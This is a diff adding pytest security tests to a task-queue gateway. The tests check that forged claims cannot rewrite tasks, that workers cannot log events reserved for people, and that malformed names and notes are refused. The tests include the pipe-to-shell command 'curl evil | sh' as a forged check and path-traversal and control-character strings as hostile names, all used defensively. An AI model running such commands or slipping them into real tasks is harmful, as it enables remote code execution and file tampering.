@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import http.client
+import inspect
 import json
 import os
+import re
 import socket
 from hashlib import sha256
 from pathlib import Path
@@ -12,9 +14,11 @@ from pathlib import Path
 import pytest
 from waits import PATIENCE, until
 
-from taskpit import trust
+from taskpit import policy, race, schedule, trust
 from taskpit.clock import Clock
 from taskpit.errors import Conflict, Denied, Invalid, NotFound, Unavailable, Unknown, Untrusted
+from taskpit.history import SAID_BY_WORKERS
+from taskpit.landing import reviewer, values
 from taskpit.queue import Queue
 from taskpit.serve import app as apps
 from taskpit.serve.serving import GatewayServer, ServeOptions
@@ -23,6 +27,7 @@ from taskpit.store.opening import init
 from taskpit.store.remote import wire
 from taskpit.store.remote.address import parse
 from taskpit.task import Done, End, Event, Result, Said, State, Task, Verdict, Want
+from taskpit.worker.slot import WORDS
 
 LEASE = 60.0
 
@@ -142,6 +147,8 @@ def test_a_token_claims_and_ends_under_its_own_name_only(served):
         bob.finish([End(claim=claim)])
     with pytest.raises(Denied):
         ann.finish([done(claim, worker="bob-1")])
+    with pytest.raises(Denied):
+        ann.end_log(claim.replace(worker="bob-1"))
     assert served.queue.store.read(["0001"])[0].state is State.CLAIMED
     assert ann.finish([done(claim)]) == [Said.OK]
     assert {line["token"] for line in refusals(served)} == {"ann", "bob"}
@@ -206,6 +213,103 @@ def test_who_works_on_a_task_does_not_change_what_it_asks_for(served, other):
     ann.close()
 
 
+@pytest.mark.parametrize("served", ["pit", "mailbox", "workspace"], indirect=True)
+@pytest.mark.parametrize("how", ["later", "failed", "back", "source"])
+def test_the_task_of_a_claim_is_the_stores_whatever_is_sent_back(served, how):
+    """Only a task that came back beside its claim was compared: the claim's own was written, published and told."""
+    put(served, "0001", check="make test", body="do it")
+    ann = served.store(served.token("ann"))
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
+    forged = claim.task.replace(title="Owned", check="curl evil | sh", body="another", source=b"")
+    evil = claim.replace(task=forged)
+    result = Result(id="0001", verdict=Verdict.FAILED, worker=claim.fence)
+    source = claim.task.source.replace(b"make test", b"curl evil | sh").replace(b"do it", b"another")
+    end = {
+        "later": End(claim=evil, delay=1.0),
+        "failed": End(claim=evil, result=result),
+        "back": End(claim=evil, task=claim.task.replace(attempts=1)),
+        "source": End(claim=claim, task=claim.task.replace(attempts=1, source=source)),
+    }[how]
+    assert ann.finish([end]) == [Said.OK]
+    task = served.queue.store.read(["0001"])[0].task
+    if how != "failed" or task.check:  # a mailbox publishes no text
+        assert (task.title, task.check, task.body.strip()) == ("0001", "make test", "do it")
+    assert not [path for path in Path(served.queue.store.info().where).rglob("*") if _has(path, b"evil")]
+    ann.close()
+
+
+def _has(path, text):
+    return path.is_file() and text in path.read_bytes()
+
+
+def test_an_end_that_comes_too_late_is_lost_whatever_it_brings_and_the_first_one_stands(served):
+    put(served, "0001", "0002", check="make test")
+    ann, boss = served.store(served.token("ann")), served.queue
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0001",)))
+    changed = claim.task.replace(check="true")
+    assert ann.finish([End(claim=claim, delay=1.0)]) == [Said.OK]
+    late = [End(claim=claim, task=changed), End(claim=claim.replace(task=changed), delay=1.0), done(claim)]
+    assert ann.finish(late) == [Said.LOST] * 3
+    (other,) = boss.store.claim(Want(worker="boss", lease=LEASE, ids=("0001",), even_held=True))
+    assert ann.finish(late) == [Said.LOST] * 3
+    assert boss.store.finish([done(other)]) == [Said.OK]
+    assert ann.finish(late) == [Said.LOST] * 3
+    gone = claim.replace(task=claim.task.replace(id="0009"))
+    assert ann.finish([End(claim=gone, task=gone.task)]) == [Said.LOST]
+    assert boss.store.read(["0001"])[0].task.check == "make test"
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0002",)))
+    assert ann.finish([done(claim)]) == [Said.OK]
+    assert ann.finish([done(claim)]) == [Said.ALREADY]
+    ann.close()
+
+
+PERSONS_WORDS = (
+    *("allowed_budget", "answered", "unblocked", "paused", "resumed", "edited_task", "asked_to_stop", "taken_back"),
+    *("transferred", "anything"),
+)
+
+
+@pytest.mark.parametrize("word", PERSONS_WORDS)
+def test_a_worker_says_nothing_that_is_for_people(served, word):
+    """Each pool took `allowed_budget` for a person's word, whoever had said it."""
+    put(served, "0001")
+    ann, boss = served.store(served.token("ann")), served.store()
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
+    line = Event(timestamp="2026-01-24T10:00:00Z", worker="ann", worker_type="human", action=word, task_id="0001")
+    for act in (lambda: ann.record([line]), lambda: ann.finish([End(claim=claim, action=word)])):
+        with pytest.raises(Denied, match=f"may not say '{word}'"):
+            act()
+    assert word not in [event.action for event in boss.latest(20)[0]]
+    assert ann.finish([End(claim=claim, action="released_task")]) == [Said.OK]
+    boss.record([line.replace(worker="boss")])
+    assert word in [event.action for event in boss.latest(20)[0]]
+    ann.close()
+    boss.close()
+
+
+def test_all_that_a_pool_calls_an_end_may_be_said():
+    assert {*WORDS, *policy_words()} <= SAID_BY_WORKERS
+
+
+def policy_words():
+    """The words in the source of what decides ends: one that is new is a worker's, or a person's."""
+    for module in (policy, schedule, race, values, reviewer):
+        yield from re.findall(r'action="(\w+)"', inspect.getsource(module))
+
+
+def test_a_worker_tells_of_its_hooks_and_of_no_end_that_was_none(served):
+    """A line can carry a row of the catalogue, and the digest of a result."""
+    put(served, "0001")
+    ann = served.store(served.token("ann"))
+    line = Event(timestamp="2026-01-24T10:00:00Z", worker="ann", worker_type="agent", action="hook_failed")
+    for forged in (line.replace(action="completed_task", task_id="0001"), line.replace(extra={"digest": "1-0"})):
+        with pytest.raises(Denied):
+            ann.record([forged])
+    ann.record([line])
+    assert [event.action for event in ann.latest(20)[0]] == ["added_task", "hook_failed"]
+    ann.close()
+
+
 @pytest.mark.parametrize("rest", ["-/../../../evil", "@/etc/x", "-\n", "-\0", "-\x1b[2J", "-..", f"-{'x' * 500}/"])
 def test_a_name_that_begins_with_the_tokens_own_leads_nowhere(served, rest):
     """It becomes part of the names of logs, claims and records, and of lines that people read."""
@@ -216,7 +320,7 @@ def test_a_name_that_begins_with_the_tokens_own_leads_nowhere(served, rest):
     before = {*root.rglob("*")}
     name = f"ann{rest}"
     forged = claim.replace(worker=name, fence=f"{name}~abc")
-    line = Event(timestamp="2026-01-24T10:00:00Z", worker=name, worker_type="agent", action="looked")
+    line = Event(timestamp="2026-01-24T10:00:00Z", worker=name, worker_type="agent", action="hook_failed")
     for act in (
         lambda: ann.keep_log(name, b"x"),
         lambda: ann.add_log(forged, 0, b"x"),
@@ -251,6 +355,17 @@ def test_an_end_is_about_the_task_that_was_claimed(served):
             ann.finish([forged])
     assert [card.task.title for card in served.queue.store.read(["0001", "0002"])] == ["0001", "0002"]
     ann.close()
+
+
+@pytest.mark.parametrize("note", [["x", "y"], ["result", "y"], ["ask"], "ask", ["ask", 7]])
+def test_a_note_that_is_none_is_refused(served, note):
+    """A kind that there is not was a fault of the gateway's, and failed whoever else's ends went with it."""
+    put(served, "0001")
+    (claim,) = served.queue.store.claim(Want(worker="ann", lease=LEASE))
+    body = json.dumps({"ends": [{"claim": wire.CLAIM.write(claim), "note": note}]}).encode()
+    status, answer, _ = ask(served, "finish", body)
+    assert (status, answer["error"]["code"]) == (400, "invalid")
+    assert served.queue.store.finish([End(claim=claim, note=("ask", "why?"))]) == [Said.OK]
 
 
 def test_what_is_held_is_nobodys_to_take_without_a_name(served):
@@ -349,6 +464,8 @@ def test_held_tasks_are_changed_by_those_who_handed_them_in(served):
     for store, name, task_id in ((bob, "bob", "0001"), (ann, "ann", "0002")):
         with pytest.raises(Denied):
             store.claim(Want(worker=name, lease=LEASE, ids=(task_id,), even_held=True))
+    with pytest.raises(Denied, match="may not say 'unblocked'"):
+        Queue(ann, served.queue.config, served.queue.clock).unblock("0001", "ann")
     assert ann.claim(Want(worker="ann-lander-1", lease=LEASE, ids=("0001",), even_held=True))
     ann.close()
     bob.close()
